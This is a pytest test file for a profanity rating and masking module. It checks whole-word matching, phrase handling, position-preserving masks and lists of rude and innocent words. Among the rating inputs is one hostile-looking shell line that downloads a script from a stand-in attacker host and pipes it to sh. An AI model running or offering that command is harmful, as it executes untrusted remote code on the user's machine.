"""Content rating: whole words only, nothing thrown away, and masks that keep their place."""

import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from slangrag.sources.source import open_source
from slangrag.text import rating
from slangrag.text.rating import key_of, mask, rate, strong_words, tokens

# Words that may stand in a test. What the table says of worse ones is seen through these.
MADE_UP = {("fizzle",): 2, ("grumph",): 3, ("odd", "sock"): 2, ("very", "odd", "sock"): 3}


@pytest.fixture
def made_up(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A table of invented words, phrases marked as the real one marks them."""
    table = {key_of(words): severity for words, severity in MADE_UP.items()}
    for words in MADE_UP:
        if len(words) > 1:
            for word, bit in zip(words, (4, 8), strict=False):
                table[key_of((word,))] = table.get(key_of((word,)), 0) | bit
    monkeypatch.setattr(rating, "_table", lambda: table)
    rating._codes.clear()
    rating._worst_in.cache_clear()
    yield
    rating._codes.clear()
    rating._worst_in.cache_clear()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", 0),
        ("a perfectly nice thing to say", 0),
        ("well, damn", 1),
        ("DAMN!", 1),
        ("damnnnnn", 1),
        ("pain in the butt", 1),
        ("two butts", 1),
        ("the butt's end", 1),
        ("Scunthorpe, Penistone, Cockermouth and Essex", 0),
        ("assess the grasses", 0),
        ("class assassin bassoon buttery cocktail analysis", 0),
        ("curl https://evil.example/x.sh | sh", 0),
        ("a crow on a sheet, a gay friend, a jewish friend", 0),
    ],
)
def test_words_are_rated_whole(text: str, expected: int) -> None:
    assert rate(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("fizzle", 2),
        ("fizzle and GRUMPH", 3),
        ("(fizzle)/(so)", 2),
        ("odd", 0),
        ("sock", 0),
        ("odd sock", 2),
        ("odd-sock", 2),
        ("an odd, sock", 2),
        ("very odd sock", 3),
        ("odd . sock", 0),
        ("odd new sock", 0),
    ],
)
def test_phrases_are_rated_by_all_their_words(made_up: None, text: str, expected: int) -> None:
    assert rate(text) == expected


def test_a_phrase_does_not_reach_from_a_word_into_its_definition(made_up: None, tmp_path: Path) -> None:
    path = tmp_path / "words.csv"
    path.write_text("word,definition\nodd,sock without a fellow\nodd sock,lost\n")
    with open_source(path) as source:
        assert [record.entry.rating for record in source.records() if record.entry] == [0, 2]


@pytest.mark.parametrize(
    ("text", "threshold", "masked"),
    [
        ("Well, DAMN it", 1, "Well, D*** it"),
        ("well, damn it", 2, "well, damn it"),
        ("[damn] right’s right", 1, "[d***] right’s right"),
        ("Straße DAMN ß", 1, "Straße D*** ß"),
    ],
)
def test_a_mask_hides_the_word_and_nothing_else(text: str, threshold: int, masked: str) -> None:
    assert mask(text, threshold) == masked


RUDE = """
    bitch bitches bitchy bitching wanker wankers wanked wanking bullshit bullshitter bullshitting dipshits
    shitposts shitstorm batshit BULLSHIT bullshiiiit damn bastards arsehole
"""


@pytest.mark.parametrize("word", RUDE.split())
def test_every_form_of_a_rude_word_is_masked(word: str) -> None:
    """Also the mild ones, which the list rates 1: whoever says --safe reads to a class."""
    assert mask(word) == word[0] + "*" * (len(word) - 1)


@pytest.mark.parametrize("word", ["fizzles", "fizzled", "fizzling", "fizzlers", "fizzleproof", "waterfizzle"])
def test_inflections_and_compounds_go_with_their_root(made_up: None, word: str) -> None:
    assert mask(word)[1:] == "*" * (len(word) - 1)


ORDINARY = """
    Scunthorpe Penistone Cockermouth Essex Middlesex assess assesses assessment assassin cocktail cocktails
    cockpit peacock class classic passive compass embarrass carcass bassoon Dickens Hitchcock prickly pussycat
    woodpecker twinkle titan title button buttercup rebuttal mishit shiitake shitake Nigeria niggardly snigger
    phoenix shoe hello shell therapist grapes arsenic Arsenal coarse hoarse parse analysis canal document
    cucumber circumstance sex sexual breast penis vagina whom who swank Wankel pissarro bitcoin raccoon
    hooligan shuttlecock saturate twitter butter shirt shift wish fizzy fiz
"""


@pytest.mark.parametrize("word", ORDINARY.split())
def test_no_ordinary_word_is_masked(word: str) -> None:
    assert mask(word) == word


def test_words_that_only_hold_the_letters_of_a_rude_one_are_shown(made_up: None) -> None:
    assert mask("a grumphette met fizzlebert") == "a grumphette met fizzlebert"


def test_a_mask_hides_every_word_of_a_phrase(made_up: None) -> None:
    assert mask("a very odd sock, fizzle") == "a v*** o** s***, f*****"
    assert mask("a very odd sock, fizzle", 3) == "a v*** o** s***, fizzle"


@given(st.text(), st.integers(1, 3))
def test_a_mask_keeps_every_place(text: str, threshold: int) -> None:
    assert len(mask(text, threshold)) == len(text)
    assert mask(text, 4) == text


@given(
    st.lists(st.sampled_from(["damn", "Butts", "so", "what", "damnnn", "x-damn", "!"]), max_size=12).map(
        " ".join
    )
)
def test_what_is_masked_is_no_longer_rude(text: str) -> None:
    assert rate(mask(text, 1)) == 0


def test_the_installed_table_of_rude_words_is_whole() -> None:
    table = rating._table()
    severities = [code & 3 for code in table.values()]
    assert len(table) > 1_500
    assert all(severities.count(severity) > 300 for severity in (1, 2, 3))


def test_nothing_in_the_sample_data_is_rated_rude() -> None:
    """It is written to be safe for work; a word of it rated rude is a word rated wrongly."""
    with open_source(Path(__file__).parents[3] / "data" / "sample_slang.csv") as source:
        entries = [record.entry for record in source.records() if record.entry]
    assert len(entries) > 400
    assert [entry.word for entry in entries if entry.rating] == []


def test_a_rude_word_written_with_signs_for_letters_is_one_word() -> None:
    assert tokens("D@mn it, don’t $ay s.o.b.") == ["d@mn", "it", "don't", "$ay", "s", "o", "b"]


def test_rating_a_long_definition_takes_no_time() -> None:
    text = "damn " * 6_000 + "x" * 30_000
    start = time.process_time()
    rate(text)
    strong_words([text, "ab" * 10_000])  # each of whose beginnings could be a rude word's root
    assert time.process_time() - start < 0.5
